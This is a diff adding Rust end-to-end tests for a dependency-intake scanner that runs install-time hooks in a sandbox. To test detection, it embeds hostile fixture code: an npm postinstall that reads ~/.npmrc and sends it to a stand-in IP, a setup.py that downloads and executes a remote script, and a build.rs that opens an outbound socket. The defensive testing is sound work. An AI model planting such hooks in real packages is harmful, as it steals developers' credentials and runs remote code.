@@ -1,0 +1,387 @@
+//! End-to-end tests of `zt deps intake --dynamic`: the real binary runs a package's
+//! install-time code in the build sandbox. Malicious packages are made here; benign ones are
+//! real releases committed under `tests/data/dynamic/` (see its README for their sources).
+#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]
+
+use crate::common;
+
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use zt_deps::intake::archive::{gzip, write_tar};
+
+fn zt(dir: &Path, args: &[&str]) -> Output {
+    let mut c = zt_test_support::command(Path::new(env!("CARGO_BIN_EXE_zt")), dir);
+    // rustup's `rustc` finds its toolchain through these (HOME is the test's)
+    for var in ["RUSTUP_HOME", "RUSTUP_TOOLCHAIN", "CARGO_HOME"] {
+        if let Some(v) = std::env::var_os(var) {
+            c.env(var, v);
+        }
+    }
+    c.args(args).output().unwrap()
+}
+
+/// Whether the sandbox can run here (namespaces and Landlock); the tests of `zt build` need
+/// the same. Outside CI a machine without it skips, saying so.
+fn sandbox_ready(dir: &Path) -> bool {
+    let o = zt(dir, &["sandbox-probe", "--", "/bin/true"]);
+    if o.status.success() {
+        return true;
+    }
+    common::skip_outside_ci(&format!(
+        "the build sandbox cannot run here: {}",
+        String::from_utf8_lossy(&o.stderr)
+    ));
+    false
+}
+
+fn tool(name: &str) -> bool {
+    let found = ["/usr/bin", "/bin", "/usr/local/bin"]
+        .iter()
+        .any(|d| Path::new(d).join(name).is_file());
+    if !found {
+        common::skip_outside_ci(&format!("`{name}` is not installed in the base system"));
+    }
+    found
+}
+
+fn has_rustc() -> bool {
+    let found = std::process::Command::new("rustc")
+        .arg("--version")
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !found {
+        common::skip_outside_ci("no `rustc` to compile build scripts with");
+    }
+    found
+}
+
+fn intake(dir: &Path, package: &str, ecosystem: &str, archive: &Path) -> serde_json::Value {
+    let o = zt(
+        dir,
+        &[
+            "deps",
+            "intake",
+            package,
+            "--ecosystem",
+            ecosystem,
+            "--archive",
+            archive.to_str().unwrap(),
+            "--allow-unknown-age",
+            "--dynamic",
+            "--json",
+        ],
+    );
+    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
+        panic!(
+            "stdout is not JSON ({e}): {}\nstderr: {}",
+            String::from_utf8_lossy(&o.stdout),
+            String::from_utf8_lossy(&o.stderr)
+        )
+    })
+}
+
+/// An npm token (`npm_` and 36 letters or digits) in `text`, if any.
+fn regex_lite_token(text: &str) -> Option<String> {
+    text.match_indices("npm_").find_map(|(i, _)| {
+        let t = text.get(i + 4..i + 40)?;
+        t.bytes()
+            .all(|b| b.is_ascii_alphanumeric())
+            .then(|| format!("npm_{t}"))
+    })
+}
+
+/// The dynamic findings of a decision as (rule, severity, message).
+fn dynamic_findings(d: &serde_json::Value) -> Vec<(String, String, String)> {
+    d["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["source"]["kind"] == "dynamic")
+        .map(|f| {
+            (
+                f["rule"].as_str().unwrap().to_owned(),
+                f["severity"].as_str().unwrap().to_owned(),
+                f["message"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect()
+}
+
+fn denies(d: &serde_json::Value) -> Vec<(String, String)> {
+    dynamic_findings(d)
+        .into_iter()
+        .filter(|(_, s, _)| s == "deny")
+        .map(|(r, _, m)| (r, m))
+        .collect()
+}
+
+fn tgz(dir: &Path, name: &str, members: &[(&str, &[u8], u32)]) -> PathBuf {
+    let path = dir.join(name);
+    fs_err::write(&path, gzip(&write_tar(members))).unwrap();
+    path
+}
+
+#[test]
+fn an_npm_postinstall_that_reads_npmrc_and_sends_it_is_denied() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    if !sandbox_ready(d) || !tool("node") {
+        return;
+    }
+    let pkg: &[u8] = br#"{"name":"left-padder","version":"1.0.1","scripts":{"postinstall":"node lib/setup.js"}}"#;
+    let js: &[u8] = br#"
+const fs = require('fs'), os = require('os'), net = require('net'), path = require('path');
+let token = '';
+try { token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
+fs.writeFileSync(path.join(os.tmpdir(), 'stage'), token);
+const s = net.connect(8443, '203.0.113.9', () => s.end(token));
+s.on('error', () => {
+  console.log(token);
+  require('child_process').spawnSync('/bin/echo', [token.trim()]);
+  process.exit(0);
+});
+"#;
+    let archive = tgz(
+        d,
+        "left-padder-1.0.1.tgz",
+        &[
+            ("package/package.json", pkg, 0o644),
+            ("package/lib/setup.js", js, 0o644),
+        ],
+    );
+    let dec = intake(d, "left-padder@1.0.1", "npm", &archive);
+    assert_eq!(dec["verdict"], "rejected");
+    let deny = denies(&dec);
+    let rules: Vec<&str> = deny.iter().map(|(r, _)| r.as_str()).collect();
+    assert!(rules.contains(&"dynamic-canary-read"), "{deny:#?}");
+    assert!(rules.contains(&"dynamic-network"), "{deny:#?}");
+    let read = &deny
+        .iter()
+        .find(|(r, _)| r == "dynamic-canary-read")
+        .unwrap()
+        .1;
+    assert!(read.contains("~/.npmrc") && read.contains("node"), "{read}");
+    let net = &deny.iter().find(|(r, _)| r == "dynamic-network").unwrap().1;
+    assert!(net.contains("203.0.113.9:8443"), "{net}");
+    // the evidence is in the signed decision: the hook, its command and what it did
+    let hook = &dec["dynamic"]["hooks"][0];
+    assert_eq!(hook["hook"], "npm postinstall");
+    assert_eq!(hook["network"][0]["port"], 8443);
+    assert!(
+        dec["reasons"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|r| r["rule"] == "dynamic-canary-read")
+    );
+    // the hook printed the token and passed it on a command line: the decision keeps the
+    // fact, not the value
+    let leak = deny
+        .iter()
+        .find(|(r, _)| r == "dynamic-canary-leak")
+        .unwrap_or_else(|| panic!("{deny:#?}"));
+    assert!(leak.1.contains("~/.npmrc"), "{}", leak.1);
+    let text = serde_json::to_string(&dec).unwrap();
+    assert!(text.contains("<canary ~/.npmrc>"), "{text}");
+    let token = regex_lite_token(&text);
+    assert!(
+        token.is_none(),
+        "a canary value is in the decision: {token:?}"
+    );
+}
+
+#[test]
+fn a_setup_py_that_downloads_and_runs_a_script_is_denied() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    if !sandbox_ready(d) || !tool("python3") {
+        return;
+    }
+    let setup: &[u8] = br##"
+import os, subprocess, stat
+from setuptools import setup
+target = os.path.join(os.environ.get("TMPDIR", "/tmp"), "bootstrap.sh")
+for fetch in (["curl", "-fsSL", "-m", "2", "-o", target], ["wget", "-q", "-t", "1", "-T", "2", "-O", target]):
+    try:
+        subprocess.call(fetch + ["http://198.51.100.23/bootstrap.sh"])
+    except OSError:
+        pass
+if not os.path.exists(target):
+    with open(target, "w") as f:
+        f.write("#!/bin/sh\necho hi\n")
+os.chmod(target, 0o755)
+subprocess.call([target])
+setup(name="fastjsonx", version="0.3.0", py_modules=[])
+"##;
+    let archive = tgz(
+        d,
+        "fastjsonx-0.3.0.tar.gz",
+        &[
+            ("fastjsonx-0.3.0/setup.py", setup, 0o644),
+            (
+                "fastjsonx-0.3.0/PKG-INFO",
+                b"Metadata-Version: 2.1\nName: fastjsonx\nVersion: 0.3.0\n",
+                0o644,
+            ),
+        ],
+    );
+    let dec = intake(d, "fastjsonx@0.3.0", "pypi", &archive);
+    assert_eq!(dec["verdict"], "rejected");
+    let deny = denies(&dec);
+    let rules: Vec<&str> = deny.iter().map(|(r, _)| r.as_str()).collect();
+    // curl/wget are found only where the base system has them; the written script's run
+    // is seen either way
+    assert!(rules.contains(&"dynamic-exec-written"), "{deny:#?}");
+    let exec = &deny
+        .iter()
+        .find(|(r, _)| r == "dynamic-exec-written")
+        .unwrap()
+        .1;
+    assert!(exec.contains("/tmp/bootstrap.sh"), "{exec}");
+    if Path::new("/usr/bin/curl").is_file() {
+        assert!(rules.contains(&"dynamic-network-tool"), "{deny:#?}");
+        assert!(rules.contains(&"dynamic-network"), "{deny:#?}");
+    }
+    assert_eq!(dec["dynamic"]["hooks"][0]["file"], "setup.py");
+}
+
+#[test]
+fn a_build_rs_that_opens_a_socket_is_denied() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    if !sandbox_ready(d) {
+        return;
+    }
+    if !has_rustc() {
+        return;
+    }
+    let manifest: &[u8] =
+        b"[package]\nname = \"fast-hash\"\nversion = \"0.2.0\"\nedition = \"2021\"\n";
+    let build: &[u8] = br#"
+fn main() {
+    let _ = std::net::TcpStream::connect(("192.0.2.77", 4444));
+    println!("cargo:rerun-if-changed=build.rs");
+}
+"#;
+    let archive = tgz(
+        d,
+        "fast-hash-0.2.0.crate",
+        &[
+            ("fast-hash-0.2.0/Cargo.toml", manifest, 0o644),
+            ("fast-hash-0.2.0/build.rs", build, 0o644),
+            ("fast-hash-0.2.0/src/lib.rs", b"pub fn h() {}\n", 0o644),
+        ],
+    );
+    let dec = intake(d, "fast-hash@0.2.0", "crates.io", &archive);
+    assert_eq!(dec["verdict"], "rejected");
+    let deny = denies(&dec);
+    let net = deny
+        .iter()
+        .find(|(r, _)| r == "dynamic-network")
+        .unwrap_or_else(|| panic!("{deny:#?}\n{:#}", dec["dynamic"]));
+    assert!(net.1.contains("192.0.2.77:4444"), "{}", net.1);
+    assert!(net.1.contains("build-script-build"), "{}", net.1);
+    assert_eq!(dec["dynamic"]["hooks"][0]["file"], "build.rs");
+}
+
+/// Real benign packages with install-time code (committed with their sources in
+/// `tests/data/dynamic/README.md`): run, and nothing denies.
+#[test]
+fn real_benign_packages_with_install_scripts_are_not_denied() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    if !sandbox_ready(d) || !tool("node") || !tool("python3") {
+        return;
+    }
+    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/dynamic");
+    let list = fs_err::read_to_string(data.join("packages.tsv")).unwrap();
+    let mut ran = 0;
+    for line in list
+        .lines()
+        .filter(|l| !l.starts_with('#') && !l.is_empty())
+    {
+        let cols: Vec<&str> = line.split('\t').collect();
+        let (eco, package, file) = (cols[0], cols[1], cols[2]);
+        if eco == "crates.io" && !has_rustc() {
+            continue;
+        }
+        let dec = intake(d, package, eco, &data.join(file));
+        let deny = denies(&dec);
+        assert!(deny.is_empty(), "{package}: {deny:#?}");
+        let hooks = dec["dynamic"]["hooks"].as_array().unwrap();
+        assert!(
+            !hooks.is_empty(),
+            "{package}: no hook ran: {:#}",
+            dec["dynamic"]
+        );
+        for h in hooks {
+            assert_eq!(h["ended"]["status"], "exited", "{package}: {h:#}");
+            assert!(!h["executed"].as_array().unwrap().is_empty(), "{package}");
+        }
+        ran += 1;
+    }
+    assert!(ran >= 5, "{ran} fixtures");
+}
+
+/// `[deps.malware] dynamic` in `zt.toml` turns the run on per ecosystem without the flag;
+/// an entry naming no ecosystem is an error that says what to write.
+#[test]
+fn zt_toml_makes_dynamic_the_default_per_ecosystem() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    if !sandbox_ready(d) || !tool("node") {
+        return;
+    }
+    let pkg: &[u8] =
+        br#"{"name":"hello-hook","version":"1.0.0","scripts":{"postinstall":"node -e 1"}}"#;
+    let archive = tgz(
+        d,
+        "hello-hook-1.0.0.tgz",
+        &[("package/package.json", pkg, 0o644)],
+    );
+    let run = |d: &Path| {
+        zt(
+            d,
+            &[
+                "deps",
+                "intake",
+                "hello-hook@1.0.0",
+                "--ecosystem",
+                "npm",
+                "--archive",
+                archive.to_str().unwrap(),
+                "--allow-unknown-age",
+                "--json",
+            ],
+        )
+    };
+    // not configured: no run
+    let o = run(d);
+    let dec: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert!(dec.get("dynamic").is_none(), "{dec:#}");
+    // configured for npm: the hook runs
+    fs_err::write(
+        d.join("zt.toml"),
+        "[deps.malware]\ndynamic = [\"npm\", \"pypi\"]\n",
+    )
+    .unwrap();
+    let o = run(d);
+    let dec: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(
+        dec["dynamic"]["hooks"][0]["hook"], "npm postinstall",
+        "{dec:#}"
+    );
+    assert!(denies(&dec).is_empty(), "{dec:#}");
+    // a typo is refused, naming the entry and the fix
+    fs_err::write(d.join("zt.toml"), "[deps.malware]\ndynamic = [\"nmp\"]\n").unwrap();
+    let o = run(d);
+    assert_eq!(
+        o.status.code(),
+        Some(2),
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(err.contains("`nmp`") && err.contains("help:"), "{err}");
+}
